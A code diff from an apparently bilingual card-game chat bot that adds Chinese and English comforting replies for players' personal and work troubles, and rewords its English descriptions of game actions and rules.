+				"An operation is scary, even a small one. I hope yours goes well.",
+				"Good luck with the surgery. Rest up before it.",
+				"I hope it goes smoothly. We'll save you a seat."
+			]
+		}
+	},
+	checkup: {
+		what: { zh: "体检让你挂心", en: "those test results worry you" },
+		after: { zh: "检查的事怎么样了", en: "any news from the doctor" },
+		said: {
+			zh: [
+				"早查出来是好事。听医生的，少熬夜，多走走。",
+				"检查单吓人，先问清医生再担心不迟。",
+				"身子是本钱，从今晚早点睡开始。"
+			],
+			en: [
+				"Better to know early. Ask the doctor before you fear the worst.",
+				"Test results are nerve-racking. I hope it's nothing serious.",
+				"One step at a time; the doctor will know more than the printout."
+			]
+		}
+	},
+	hurt: {
+		what: { zh: "你受了伤", en: "you got hurt" },
+		after: { zh: "伤好些了么", en: "how is the injury" },
+		said: {
+			zh: [
+				"伤筋动骨急不得，好好养着。还疼不疼？",
+				"人没大事就好。别逞强，让医生看仔细了。",
+				"听着都疼。这阵子慢点走，慢点打。"
+			],
+			en: [
+				"Ouch, that sounds painful. Let it heal properly.",
+				"I'm glad you're here to tell it. Take it easy.",
+				"That's rough. Have somebody look at it if you haven't."
+			]
+		}
+	},
+	mind: {
+		what: { zh: "你心里压着事", en: "your mind is heavy" },
+		after: { zh: "这几天心里松快些了么", en: "has your mind been any lighter" },
+		said: {
+			zh: [
+				"这不是你矫情，是真难受。找医生聊聊，别一个人扛。",
+				"肯说出来就不容易了。身边有人能陪你说说话吗？",
+				"心里病了也是病，看医生不丢人。我在这听着。"
+			],
+			en: [
+				"That's real, and it's hard. Please lean on a doctor or someone you trust.",
+				"Thank you for saying it. You don't have to carry it alone.",
+				"It takes courage to say so. I hope somebody near you knows too."
+			]
+		}
+	},
+	pain: {
+		what: { zh: "你身上疼", en: "you are in pain" },
+		after: { zh: "还疼么", en: "does it still hurt" },
+		said: {
+			zh: ["疼起来牌都看不进去。撑不住就去看看。", "别硬扛，先歇会儿，这局打慢些也行。", "疼是身子在喊停，听它一回。"],
+			en: [
+				"Pain makes everything harder. Don't tough it out too long.",
+				"Ugh, that hurts. Rest a little; we can play slowly.",
+				"If it keeps up, have it looked at."
+			]
+		}
+	},
+	sick: {
+		what: { zh: "你身子不舒服", en: "you are not well" },
+		after: { zh: "身子好些了么", en: "are you feeling better" },
+		said: {
+			zh: [
+				"病着还来打牌？多喝水，撑不住就去看医生。",
+				"身子要紧。烧不退、吐不停就别拖，去医院。",
+				"早点好起来。这局打慢些，没人催你。"
+			],
+			en: [
+				"That sounds miserable. Drink something and get some rest.",
+				"Feel better soon. See a doctor if it won't let up.",
+				"Sick and still playing? Take it easy; nobody's rushing you."
+			]
+		}
+	},
+	breakup: {
+		what: { zh: "一段感情散了", en: "a love came to an end" },
+		after: { zh: "心里那道坎，过去些了么", en: "does the heart hurt a little less" },
+		said: {
+			zh: [
+				"分手这事，疼是真的。今天不用装没事。",
+				"散了就是散了，难受也不丢人，我听着。",
+				"别急着好起来，先吃顿热的，睡一觉。"
+			],
+			en: [
+				"I'm sorry. Breakups hurt, and you don't have to act fine here.",
+				"That's rough. Eat something warm, and don't rush to be okay.",
+				"I'm sorry it ended. Say as much or as little as you like."
+			]
+		}
+	},
+	cheated: {
+		what: { zh: "你被人辜负了", en: "someone broke your trust" },
+		after: { zh: "那口气，顺些了么", en: "has the sting eased" },
+		said: {
+			zh: [
+				"错在那个人，不在你。气就骂，我听着。",
+				"被辜负最伤人。别拿别人的错怪自己。",
+				"看清了也好，往后的日子是你自己的。"
+			],
+			en: [
+				"That's on them, not on you.",
+				"I'm sorry. Nobody deserves to find that out.",
+				"Being betrayed cuts deep. Don't blame yourself for their lie."
+			]
+		}
+	},
+	love_quarrel: {
+		what: { zh: "你们俩闹了别扭", en: "you two had a fight" },
+		after: { zh: "你们俩说开了么", en: "have you two made up" },
+		said: {
+			zh: [
+				"吵架的时候谁都嘴硬。等气消了，先递句软话。",
+				"冷着最熬人。想和好，今晚就发条消息。",
+				"亲近的人才吵得起来，别憋成隔夜仇。"
+			],
+			en: [
+				"Fights with someone close sting the most. Let tempers cool first.",
+				"The silent treatment is exhausting. A short honest message may help.",
+				"It happens to the best of couples. Sleep on it before you argue more."
+			]
+		}
+	},
+	rejected: {
+		what: { zh: "心意没被接住", en: "you were turned down" },
+		after: { zh: "被拒那事，放下些了么", en: "are you over that no" },
+		said: {
+			zh: ["敢开口就不丢人，只是缘分没到。", "被拒是疼，可你比没开口那会儿强。", "那个人没看上，不等于你不好。"],
+			en: [
+				"That stings. It took guts to ask, though.",
+				"A no hurts, but it says nothing about your worth.",
+				"Their loss. You were brave enough to try."
+			]
+		}
+	},
+	kin_quarrel: {
+		what: { zh: "跟家里人闹僵了", en: "you fell out with {kin}" },
+		after: { zh: "跟家里人说开了么", en: "have you two made up" },
+		said: {
+			zh: [
+				"跟{kin}闹僵最难受，心里还惦记着吧？",
+				"气话过了就算了，总得有一个先开口。",
+				"{kin}嘴上硬，心里未必。等气消了打个电话。"
+			],
+			en: [
+				"Falling out with {kin} is hard; nobody gets under the skin like family.",
+				"That silence must weigh on you. Somebody has to call first.",
+				"I'm sorry. Words said in anger aren't the whole story with {kin}."
+			]
+		}
+	},
+	pressed: {
+		what: { zh: "家里催得紧", en: "your family is pressing you" },
+		after: { zh: "家里还催么", en: "are they still pressing you" },
+		said: {
+			zh: [
+				"催归催，日子是你过。笑笑混过去就行。",
+				"他们是着急，你可别急。这事又不是抢红包。",
+				"一催就烦，懂。你自己有数就好。"
+			],
+			en: [
+				"They mean well, but it's your life. Take your time.",
+				"Ugh, that question again. No answer is owed.",
+				"Smile and change the subject; it works every time."
+			]
+		}
+	},
+	homesick: {
+		what: { zh: "你想家了", en: "you miss home" },
+		after: { zh: "给家里打过电话了么", en: "have you called home" },
+		said: {
+			zh: ["想家就打个电话，他们准在等你。", "一个人在外头不容易，这桌先陪你热闹。", "吃点家乡味的，心里会踏实些。"],
+			en: [
+				"Missing home is hard. Give them a call; they'd love it.",
+				"You've got company at this table, at least.",
+				"Cook something that tastes of home; it helps."
+			]
+		}
+	},
+	kids: {
+		what: { zh: "孩子闹心", en: "the little one wears you out" },
+		after: { zh: "孩子消停些了么", en: "has the little one calmed down" },
+		said: {
+			zh: ["带娃是体力活，你辛苦了。歇一手再打。", "哪家孩子不闹，你也得喘口气。", "当爹妈的都懂，这仗比打牌难。"],
+			en: [
+				"Kids are harder than any game. Hang in there.",
+				"That's exhausting. You're allowed to be tired.",
+				"Parenting has no pause button. Catch your breath here."
+			]
+		}
+	}
+};
+
+// src/chatter/plan/life/words/work.ts
+const WORK_TROUBLES = {
+	scolded: {
+		what: { zh: "你挨了顿骂", en: "you got chewed out" },
+		after: { zh: "挨骂那事，气消了没", en: "has the sting of that scolding passed" },
+		said: {
+			zh: [
+				"当众挨骂最难受，那口气别往心里搁。",
+				"骂你的人一转身就忘，你也别记着过夜。",
+				"上班挨骂，下班打牌，先出口气再说。"
+			],
+			en: [
+				"Being yelled at is humiliating. Don't take it home with you.",
+				"That was uncalled for. Blow off some steam here.",
+				"No job gives anybody the right to shout at you. I'm sorry."
+			]
+		}
+	},
+	blamed: {
+		what: { zh: "你替人背了锅", en: "you took the blame for others" },
+		after: { zh: "背锅那事说清了么", en: "did that blame get cleared up" },
+		said: {
+			zh: [
+				"替人背锅最憋屈。你没错，就别往自己身上揽。",
+				"这锅不是你的，心里得清楚。下回留个凭据。",
+				"功劳没份，锅有份，换谁都窝火。"
+			],
+			en: [
+				"Taking the blame for others is the worst. It wasn't your fault.",
+				"That's unfair. Keep it in writing next time.",
+				"I'd be angry too. You know it wasn't you."
+			]
+		}
+	},
+	laid_off: {
+		what: { zh: "饭碗的事悬着", en: "your job is gone or at risk" },
+		after: { zh: "工作的事有着落了么", en: "any news about work" },
+		said: {
+			zh: [
+				"裁员裁的是数字，不是你不行。先缓一缓。",
+				"饭碗的事最磨人。路不止一条，慢慢来。",
+				"难怪没心思。简历备着，觉照睡。"
+			],
+			en: [
+				"I'm sorry. Layoffs say nothing about how good you are.",
+				"That's scary. One step at a time; there's more than one road.",
+				"Losing a job hurts. Be kind to yourself this week."
+			]
+		}
+	},
+	turned_down: {
+		what: { zh: "机会落了空", en: "you were passed over" },
+		after: { zh: "找工作的事有进展么", en: "any luck with the job since" },
+		said: {
+			zh: ["这回没轮到你，是他们没眼光。", "白等一场最泄气，歇一晚再投下一家。", "落空一次不算什么，下一家未必。"],
+			en: [
+				"Being passed over stings. Their mistake, if you ask me.",
+				"That's a letdown. It isn't the last door, though.",
+				"I'm sorry; you'd got your hopes up. The next one may see it."
+			]
+		}
+	},
+	pay_cut: {
+		what: { zh: "工钱缩了水", en: "your pay took a hit" },
+		after: { zh: "工钱的事有说法了么", en: "did they fix your pay" },
+		said: {
+			zh: [
+				"活没少干，钱没见多，换谁都不痛快。",
+				"工钱缩水最扎心。先把账捋一捋，别慌。",
+				"该是你的就去问，好好说，别闷着。"
+			],
+			en: [
+				"Less pay and the same bills; that's rough.",
+				"Hours cut and nothing you did wrong. I'm sorry.",
+				"Ouch, that hits the wallet. Ask them what the plan is."
+			]
+		}
+	},
+	waiting: {
+		what: { zh: "你在等消息", en: "you are waiting to hear" },
+		after: { zh: "等的消息来了么", en: "did you hear back" },
+		said: {
+			zh: ["等消息最熬人，先忙点别的。", "没信未必是坏信，再等等。", "越盯着手机越难熬，打牌分分心。"],
+			en: [
+				"Waiting to hear is the worst part. Keep busy meanwhile.",
+				"No news isn't always bad news. Fingers crossed.",
+				"Staring at the phone makes it longer; play a little."
+			]
+		}
+	},
+	interview: {
+		what: { zh: "你有面试", en: "you have an interview coming" },
+		after: { zh: "面试怎么样", en: "how did the interview go" },
+		said: {
+			zh: [
+				"面试紧张正常，他们也想招到人。祝顺利。",
+				"把自己做过的事讲明白就行。今晚早点睡。",
+				"手心出汗说明你在乎。深呼吸，稳住。"
+			],
+			en: [
+				"Good luck with the interview! They want you to do well, too.",
+				"Nerves are normal. Know your own stories and you'll be fine.",
+				"You've got this. Sleep well before it."
+			]
+		}
+	},
+	overwork: {
+		what: { zh: "工作上受累", en: "work wears you out" },
+		after: { zh: "手头的活松快些没", en: "has work let up a little" },
+		said: {
+			zh: [
+				"活是干不完的，身子就一副。今晚早点歇。",
+				"忙成这样还来打牌，是得喘口气。",
+				"上班够累了，这桌上就别操心班上的事。"
+			],
+			en: [
+				"That's too much work for anybody. Take a real break tonight.",
+				"No wonder you're worn out. Leave the office at the office for now.",
+				"Work never ends, but you're only one person. Go easy on yourself."
+			]
+		}
+	},
+	colleague: {
+		what: { zh: "同事给你添堵", en: "a colleague gave you grief" },
+		after: { zh: "同事那事过去了么", en: "have things at work settled" },
+		said: {
+			zh: ["跟这种人共事，心累。凡事留个底。", "你干你的，日久见人心。", "同事不是朋友，别为这种人伤神。"],
+			en: [
+				"Working with people like that is draining. Keep a record.",
+				"That's low of them. Don't let it live in your head.",
+				"I'm sorry. A bad colleague can spoil a good job."
+			]
+		}
+	},
+	exam_failed: {
+		what: { zh: "考试没考好", en: "the exam went badly" },
+		after: { zh: "考试那事，缓过来些没", en: "are you over that exam" },
+		said: {
+			zh: [
+				"就差那么一点，最不甘心。先让自己难受一天。",
+				"一场考试定不了你。歇好了再想下一步。",
+				"没考好是真难受，可你的功夫没白下。"
+			],
+			en: [
+				"That hurts after all the work. One exam doesn't define you.",
+				"I'm sorry. Give yourself a day before you plan the next try.",
+				"A bad grade stings, but it isn't the last word on you."
+			]
+		}
+	},
+	exam_coming: {
+		what: { zh: "考试压着你", en: "an exam is coming" },
+		after: { zh: "考试考得怎么样", en: "how did the exam go" },
+		said: {
+			zh: [
+				"考试在前谁都慌。挑要紧的看，今晚别熬太晚。",
+				"来得及的先背，来不及的放过。祝你考好。",
+				"紧张说明你在乎。打完这局就去看书。"
+			],
+			en: [
+				"Good luck with the exam! Hit the big topics first, then sleep.",
+				"Everybody feels they know nothing the night before. You know more than you think.",
+				"Finish this game and go over your notes once. You'll manage."
+			]
+		}
+	},
+	thesis: {
+		what: { zh: "论文磨人", en: "that paper weighs on you" },
+		after: { zh: "论文写得顺些了么", en: "is the paper coming along" },
+		said: {
+			zh: ["论文最磨人，一天写一段也是进。", "被打回来不是你不行，是又少改一遍。", "熬到这份上了，先睡一觉再改。"],
+			en: [
+				"Papers are a slog. One paragraph a day still gets you there.",
+				"Ugh, deadlines. Start with the easiest part.",
+				"A rough draft beats a blank page. Hang in there."
+			]
+		}
+	}
+};
+
+// src/chatter/plan/life/trouble.ts
+const ANY_MATTER = "low";
+const TROUBLES = { ...NEAR_TROUBLES, ...WORK_TROUBLES, ...DAILY_TROUBLES };
+const troubleWords = (matter) => TROUBLES[matter] ?? TROUBLES[ANY_MATTER];
+const withKin = (text, whose, language) => text.replace(/\{kin\}/g, whose?.named[language] ?? { zh: "家里人", en: "your family" }[language]);
+function namedTrouble(heard, language) {
+	const words = troubleWords(matterIn(heard)?.matter ?? ANY_MATTER);
+	const said = (text) => withKin(text ?? "", whoseIn(heard), language);
+	return { what: said(words?.what[language]), after: said(words?.after[language]) };
 }
-const HEROES2 = new RegExp("(\\p{Script=Han}{2,3}?)(?:和|跟|与|同|比|对|、|vs)(\\p{Script=Han}{2,3}?)(?=谁|哪|更|,|\\?|比|单挑|打|厉害|强|$)|\\b([a-z]+ [a-z]+) (?:or|and|vs\\.?|versus) ([a-z]+ [a-z]+)", "u");
 
 // src/chatter/plan/people.ts
 const EDITION2 = /^(?:界|标|慢|手杀|新杀|战役篇|十周年|ol|sp|tw|新|旧|谋|杀|族|起|闪|幻|合|缘|笛音|兴|燕幽|经典|☆|★)+(?=..)/iu;
@@ -30827,6 +32780,10 @@ function called(seat, parties, subject = false) {
 	if (seat === you) return words.you;
 	if (seat === scene.table.lord) return words.lord;
 	return (byNumber ? null : heroOf(scene, seat)) ?? words.seat(seat);
+}
+function ownedBy(seat, parties) {
+	if (seat === parties.me) return "my";
+	return seat === parties.you ? "your" : `${called(seat, parties)}'s`;
 }
 const pointedOut = (seat, parties) => seat === parties.scene.table.lord && seat !== parties.me && seat !== parties.you ? WORDS3[parties.language].seat(seat) : called(seat, parties, true);
 
@@ -30869,7 +32826,6 @@ const CARDS_EN = {
 	muniu: "the Wooden Ox"
 };
 const HORSES = new Set(["chitu", "dawan", "zixin", "dilu", "jueying", "zhuahuang", "hualiu"]);
-const WHOSE = { you: "your", me: "my" };
 const cardNamed = (card, language, nameOf) => (language === "en" ? CARDS_EN[card] ?? (HORSES.has(card) ? "a horse" : null) : null) ?? nameOf(card) ?? "";
 const THROWN = {
 	zh: { flower: "花", egg: "鸡蛋", wine: "酒", shoe: "鞋" },
@@ -30889,11 +32845,11 @@ const AIMED = {
 	en: {
 		sha: (to) => `struck at ${to}`,
 		juedou: (to) => `challenged ${to} to a duel`,
-		huogong: (to) => `set fire to ${to}`,
-		guohe: (to) => `tore a card away from ${to}`,
+		huogong: (to) => `used a Fire Attack on ${to}`,
+		guohe: (_, __, ___, whose) => `dismantled one of ${whose} cards`,
 		shunshou: (to) => `snatched a card from ${to}`,
-		lebu: (to) => `laid Contentment on ${to}`,
-		bingliang: (to) => `cut off ${WHOSE[to] ?? `${to}'s`} supplies`,
+		lebu: (to) => `put Contentment on ${to}`,
+		bingliang: (_, __, ___, whose) => `cut off ${whose} supplies`,
 		tao: (to) => `gave ${to} a Peach`
 	}
 };
@@ -30918,13 +32874,13 @@ const DEEDS2 = {
 	},
 	en: {
 		aimed: (to, card) => `used ${card || "a card"} on ${to}`,
-		hit: (to, _, { num }) => `cost ${to} ${num === 1 ? "a point" : `${num} points`} of health`,
+		hit: (to, _, { num }) => `dealt ${num} damage to ${to}`,
 		heal: (to, _, { by, to: whom }) => by === whom ? "healed up" : `healed ${to}`,
-		rescue: (to) => `brought ${to} back from the brink`,
-		dying: () => "went down once",
-		wuxie: (to, card, { good, over }) => over !== void 0 ? `cancelled the Nullification ${good === false ? "for" : "against"} ${to}` : good === false ? `cancelled ${card || "a card"} meant for ${to}` : `blocked ${card || "a card"} for ${to}`,
+		rescue: (to) => `saved ${to} from dying`,
+		dying: () => "dropped to 0 health",
+		wuxie: (to, card, { good, over }) => over !== void 0 ? `countered the Nullification that ${good === false ? "protected" : "went against"} ${to}` : good === false ? `nullified ${card || "a card"} meant for ${to}` : `blocked ${card || "a card"} for ${to}`,
 		steal: (to, card, { good }) => good ? `took ${card || "a trap"} off ${to}` : `took ${card || "a card"} from ${to}`,
-		discard: (to, card, { good }) => good ? `cleared ${card || "a trap"} off ${to}` : `made ${to} lose ${card || "a card"}`,
+		discard: (to, card, { good }) => good ? `cleared ${card || "a trap"} off ${to}` : `made ${to} discard ${card || "a card"}`,
 		give: (to, _, { num }) => `gave ${to} ${cards(num)}`,
 		draw: (to, _, { num }) => `let ${to} draw ${cards(num)}`,
 		throw: (to, card) => `threw ${THROWN.en[card] ?? "something"} at ${to}`,
@@ -30936,9 +32892,14 @@ const DEEDS2 = {
 };
 const headOf2 = ({ kind, by, to }) => kind === "dying" || kind === "reveal" || kind === "revive" ? to : by;
 const deedOf3 = ({ kind, by, to, card }) => `${kind === "hit" || kind === "aimed" ? `blow/${card}` : kind}/${by}/${to}`;
+const TAKES3 = new Set(["guohe", "shunshou"]);
+const isMeans = ({ kind, card, by, to, turn }, facts) => kind === "aimed" && TAKES3.has(card ?? "") && facts.some(
+	(one) => (one.kind === "steal" || one.kind === "discard") && one.by === by && one.to === to && one.turn === turn
+);
 function gathered(facts, most) {
 	const groups = new Map();
-	for (const fact of facts) groups.set(deedOf3(fact), [...groups.get(deedOf3(fact)) ?? [], fact]);
+	for (const fact of facts.filter((one) => !isMeans(one, facts)))
+		groups.set(deedOf3(fact), [...groups.get(deedOf3(fact)) ?? [], fact]);
 	return [...groups.values()].slice(0, most).flatMap((group) => {
 		const aimed = group.filter(({ kind }) => kind === "aimed");
 		const told = aimed.length > 0 ? aimed : group;
@@ -30968,24 +32929,26 @@ function cardIn({ card, kind }, { language }, nameOf) {
 function deed(fact, parties, nameOf, alone) {
 	const { language, me, you } = parties;
 	const itself = fact.to !== null && fact.to === fact.by;
-	const to = fact.to === null ? "" : itself ? language === "zh" ? "自己" : fact.to === me ? "myself" : fact.to === you ? "yourself" : "their own side" : called(fact.to, parties);
+	const to = fact.to === null ? "" : itself ? language === "zh" ? "自己" : fact.to === me ? "myself" : fact.to === you ? "yourself" : "themselves" : called(fact.to, parties);
 	const card = cardIn(fact, parties, nameOf);
 	const own = fact.kind === "aimed" || fact.kind === "hit" ? AIMED[language][fact.card ?? ""] : void 0;
 	const bad = fact.good === false || fact.card === "tao";
-	if (own && bad && fact.kind === "aimed" && !isVain(fact, parties)) return own(to, card, fact);
+	const whose = fact.to === null ? "" : to === "themselves" ? "their own" : ownedBy(fact.to, parties);
+	if (own && bad && fact.kind === "aimed" && !isVain(fact, parties)) return own(to, card, fact, whose);
 	if (isUndone3(fact, parties.scene)) return TRIED2[language](to, card);
 	const told = { ...fact, num: Math.max(fact.num, sumIn(fact, parties, alone)) };
-	return DEEDS2[language][fact.kind](to, card, told);
+	return DEEDS2[language][fact.kind](to, card, told, whose);
 }
 function undone(fact, parties) {
 	const { language } = parties;
 	const whom = fact.to === null ? "" : called(fact.to, parties, true);
-	if (fact.kind === "death") return language === "zh" ? `${whom}死了，没有谁动手` : `${whom} died by nobody's hand`;
-	return language === "zh" ? `${whom}吃了亏` : `${whom} came to harm`;
+	if (fact.kind === "death")
+		return language === "zh" ? `${whom}死了，没有谁动手` : `${whom} died, and nobody struck the blow`;
+	return language === "zh" ? `${whom}吃了亏` : `${whom} got hurt`;
 }
 const TRIED2 = {
 	zh: (to, card) => `出无懈管过给${to}的${card || "牌"}，没管住`,
-	en: (to, card) => `played a Nullification over ${card || "a card"} for ${to}, in vain`
+	en: (to, card) => `tried to nullify ${card || "a card"} meant for ${to}, without success`
 };
 const OF_ITS_OWN = new Set(["nanman", "wanjian", "juedou", "huogong", "shandian"]);
 const isWith = (a, b) => a.kind === "hit" && b.kind === "hit" && a.by === b.by && a.to === b.to && a.turn === b.turn;
@@ -31003,6 +32966,13 @@ function isUndone3(fact, scene) {
 	return answer !== void 0 && !isUndone3(answer, scene);
 }
 const isLoss = ({ kind, good }) => (kind === "steal" || kind === "discard") && good !== true;
+function inOneSentence(parts) {
+	const of = [];
+	for (const part of parts)
+		if (part.startsWith("and ")) of.push(`${of.pop() ?? ""} ${part}`);
+		else of.push(part);
+	return of.map((one, i) => i === 0 ? one : `${i === of.length - 1 ? ", and " : ", "}${one}`).join("");
+}
 function phrase(told, parties, nameOf) {
 	const { language } = parties;
 	const parts = [];
@@ -31031,124 +33001,13 @@ function phrase(told, parties, nameOf) {
 			);
 		before = head;
 	}
-	return language === "zh" ? parts.join("，") : parts.join(", ").replace(/, and /g, " and ");
+	return language === "zh" ? parts.join("，") : inOneSentence(parts);
 }
 
 // src/chatter/plan/words/aside.ts
-const TROUBLES = [
-	{
-		heard: /(?:妈|爸|爹|娘|奶奶|爷爷|外婆|外公|姥|父|母|家人|老人|mom|mum|mother|dad|father|grand\w+).{0,12}(?:住院|病|手术|医院|摔|hospital|sick|ill\b|surgery)|(?:住院|手术|hospital|surgery).{0,12}(?:妈|爸|mom|mum|dad)/,
-		what: { zh: "家里人病了住院", en: "someone at home is in hospital" },
-		care: {
-			zh: ["牌可以放一边，先顾家里，愿早日平安", "多陪陪家里人，自己也记得歇口气"],
-			en: [
-				"The cards can wait; go to your family, and may they be well soon",
-				"Be with them, and rest a little yourself"
-			]
-		},
-		after: { zh: "家里人身子好些了么", en: "is your family any better" }
-	},
-	{
-		heard: /去世|过世|离世|葬礼|不在了|没了|走了|\b(?:passed away|died|funeral|is gone)\b/,
-		what: { zh: "失了亲近的", en: "you lost someone dear" },
-		care: {
-			zh: ["难过就难过，不必撑着", "想说说，我就听着，不急着打牌"],
-			en: ["Grieve as you must; no need to be strong here", "If you want to talk, I am listening; the cards can wait"]
-		},
-		after: { zh: "你心里好受些了么", en: "are you bearing up" }
-	},
-	{
-		heard: /分手|失恋|被甩|劈腿|出轨|离婚|\b(?:broke up|break ?up|dumped|divorc\w*|cheated on)\b/,
-		what: { zh: "一段感情散了", en: "a love came to an end" },
-		care: {
-			zh: ["这阵子疼是真的，慢慢会过去", "别急着好起来，先吃顿热的"],
-			en: ["It hurts now, and it will ease with time", "Don't hurry to be fine; eat something warm first"]
-		},
-		after: { zh: "你心里那道坎，过去些了么", en: "does the heart hurt a little less" }
-	},
-	{
-		heard: /(?:老板|领导|上司|主管|经理|boss|manager).{0,8}(?:骂|训|批|吼|yell|scold|shout)|被.{0,6}(?:骂|训|批评|吼)|\b(?:yelled|scolded|shouted) at\b/,
-		what: { zh: "白挨了一顿骂", en: "you were shouted at" },
-		care: {
-			zh: ["那口气在这儿出，别往心里搁", "错不全在你，回家吃点好的"],
-			en: ["Let it out here, and don't take it to heart", "Not all of it was your fault; treat yourself tonight"]
-		},
-		after: { zh: "挨骂那事，气消了没", en: "has the sting of that scolding passed" }
-	},
-	{
-		heard: /失眠|睡不着|没睡|噩梦|通宵|熬夜|\b(?:insomnia|can'?t sleep|couldn'?t sleep|no sleep|haven'?t slept|nightmares?|stayed up)\b/,
-		what: { zh: "好些天没睡稳", en: "you have not been sleeping" },
-		care: {
-			zh: ["打完这局就放下手机，灯调暗些", "今晚别熬，总睡不着就找医生看看"],
-			en: [
-				"After this game put the phone away and dim the light",
-				"No late night today, and see a doctor if it goes on"
-			]
-		},
-		after: { zh: "后来睡着些了么", en: "have you slept any better" }
-	},
-	{
-		heard: /失业|被裁|裁员|辞退|开除|丢了工作|\b(?:fired|laid off|lost my job)\b/,
-		what: { zh: "丢了饭碗", en: "you lost your job" },
-		care: {
-			zh: ["先缓一缓，路不止一条", "不是你不行，别跟自己过不去"],
-			en: ["Take a breath; there is more than one road", "It isn't that you fell short; be kind to yourself"]
-		},
-		after: { zh: "找活的事有着落了么", en: "any news about work" }
-	},
-	{
-		heard: /挂科|考砸|没考好|落榜|考试|论文|答辩|\b(?:failed|exams?|thesis|finals)\b/,
-		what: { zh: "书读得正难", en: "your studies weigh on you" },
-		care: {
-			zh: ["一场考试定不了你", "歇一会儿再看书，脑子才转得动"],
-			en: ["One exam does not decide who you are", "Rest a little; the mind turns better after"]
-		},
-		after: { zh: "考试的事过去了么", en: "how did the exams go" }
-	},
-	{
-		heard: /加班|上班|工作|老板|甲方|\b(?:overtime|boss|work|job|office)\b/,
-		what: { zh: "工作上受累", en: "work wears you out" },
-		care: {
-			zh: ["这会儿不用管它，喘口气", "身子要紧，能推就推一推"],
-			en: ["Don't mind it for now; take a breath", "Your health comes first; put off what you can"]
-		},
-		after: { zh: "手头的活松快些没", en: "has work let up a little" }
-	},
-	{
-		heard: /吵架|吵了|冷战|骂我|\b(?:fight with|fought with|argued?)\b/,
-		what: { zh: "跟亲近的人闹了别扭", en: "you fell out with somebody close" },
-		care: {
-			zh: ["等气消了再说，话会软些", "先顾着自己，别钻牛角尖"],
-			en: ["Wait till tempers cool; words come softer", "Mind yourself first"]
-		},
-		after: { zh: "跟那人说开了么", en: "have you two made up" }
-	},
-	{
-		heard: /亏|欠|穷|没钱|破产|房贷|还款|\b(?:debts?|broke|mortgage|lost money)\b/,
-		what: { zh: "手头紧", en: "money is tight" },
-		care: {
-			zh: ["别跟人赌气去赌，慢慢来", "日子紧也有过法，别硬扛"],
-			en: ["Don't chase losses; take it slowly", "Lean times pass; don't bear it alone"]
-		},
-		after: { zh: "手头宽些了么", en: "is money any easier" }
-	},
-	{
-		heard: /感冒|发烧|病|疼|痛|不舒服|医院|住院|手术|骨折|\b(?:sick|ill|fever|flu|hurts?|ache|hospital|surgery|cold)\b/,
-		what: { zh: "身子不舒服", en: "you are not well" },
-		care: {
-			zh: ["多喝热水多歇着，撑不住就去看医生", "别硬撑，这局打慢些也行"],
-			en: ["Rest and drink something warm, and see a doctor if it stays", "Don't push yourself; we can play slowly"]
-		},
-		after: { zh: "身子好些了么", en: "are you feeling better" }
-	}
-];
-const ANY_TROUBLE = {
-	what: { zh: "遇上难事", en: "you are having a hard time" },
-	care: {
-		zh: ["想说就说，我听着", "慢慢来，不急"],
-		en: ["Say it if you like; I am listening", "Slowly; there is no hurry"]
-	},
-	after: { zh: "那件难事，好些了么", en: "is that trouble any better" }
+const CARE2 = {
+	zh: ["想说就说，我听着", "慢慢来，不急"],
+	en: ["Say it if you like; I am listening", "Take your time; there is no hurry"]
 };
 const REMARKS2 = {
 	health: {
@@ -31227,112 +33086,133 @@ const RULES5 = [
 		asked: /传|铁索|连环|拴|chain/,
 		rule: {
 			zh: "铁索只传火和雷的伤害，普通的杀不传",
-			en: "chains pass on fire and thunder alone, not a plain Strike"
+			en: "chains only pass on fire and thunder damage, not a plain Strike"
 		}
 	},
 	{
 		asked: /几(?:张|次)杀|杀几|how many (?:strikes?|slash)/,
 		rule: {
 			zh: "一般一回合只能出一张杀，有连弩另说",
-			en: "as a rule one Strike a turn, unless a crossbow says otherwise"
+			en: "normally one Strike a turn, unless you have the Crossbow"
 		}
 	},
 	{
 		asked: /距离|够不着|range|distance/,
 		rule: {
 			zh: "隔着几个人就是几步距离，马和武器能改",
-			en: "distance counts the seats between; horses and weapons change it"
+			en: "distance is how many seats away they are, and horses and weapons change it"
 		}
 	},
 	{
 		asked: /(?:内奸|内(?!容)|traitor|spy).*(?:赢|胜|玩|打)|(?:win|rule).*(?:traitor|spy)|(?:traitor|spy).*win/,
 		rule: {
 			zh: "内奸要活到最后，再和主公单挑取胜",
-			en: "the traitor must be the last one standing against the lord, and win"
+			en: "the traitor has to outlive everyone else, then beat the lord one on one"
 		}
 	},
 	{
 		asked: /反.*(?:赢|胜|玩|打)|(?:win|rule).*rebel|rebel.*win/,
-		rule: { zh: "反贼打倒主公就赢，谁动手都算", en: "the rebels win when the lord falls, whoever strikes the blow" }
+		rule: {
+			zh: "反贼打倒主公就赢，谁动手都算",
+			en: "the rebels win when the lord falls, no matter who lands the blow"
+		}
 	},
 	{
 		asked: /[忠主].*(?:赢|胜|玩|打)|怎么(?:才)?(?:能)?(?:算)?赢|(?:win|rule).*(?:loyal|lord)|(?:loyal|lord).*win/,
-		rule: { zh: "主忠一边要把反贼和内奸都清掉", en: "the lord's side must clear away every rebel and the traitor" }
+		rule: { zh: "主忠一边要把反贼和内奸都清掉", en: "the lord's side has to take out every rebel and the traitor" }
 	}
 ];
 const CARD_RULES = {
-	sha: { zh: "杀要对面出闪，不出就掉一血", en: "a Strike costs one health unless it is dodged" },
-	shan: { zh: "闪是躲杀和万箭用的", en: "a Dodge evades a Strike or the Arrow Rain" },
-	tao: { zh: "桃回一点血，有人濒死也能救", en: "a Peach heals one, and brings back whoever is dying" },
-	jiu: { zh: "喝了酒下一张杀多一点伤害，濒死能自救", en: "after Wine the next Strike hurts one more" },
-	guohe: { zh: "拆是弃别人区域里一张牌", en: "Dismantle throws away one card of another" },
-	shunshou: { zh: "顺是拿距离一以内的人一张牌", en: "Snatch takes one card of somebody next to you" },
+	sha: { zh: "杀要对面出闪，不出就掉一血", en: "a Strike costs one health unless you play a Dodge" },
+	shan: { zh: "闪是躲杀和万箭用的", en: "a Dodge gets you out of a Strike or the Arrow Rain" },
+	tao: { zh: "桃回一点血，有人濒死也能救", en: "a Peach heals one health, and can save anyone who is dying" },
+	jiu: {
+		zh: "喝了酒下一张杀多一点伤害，濒死能自救",
+		en: "Wine makes your next Strike do one more damage, or saves you when you are dying"
+	},
+	guohe: { zh: "拆是弃别人区域里一张牌", en: "Dismantle discards one card from another player" },
+	shunshou: { zh: "顺是拿距离一以内的人一张牌", en: "Snatch takes one card from a player at distance one" },
 	wuxie: {
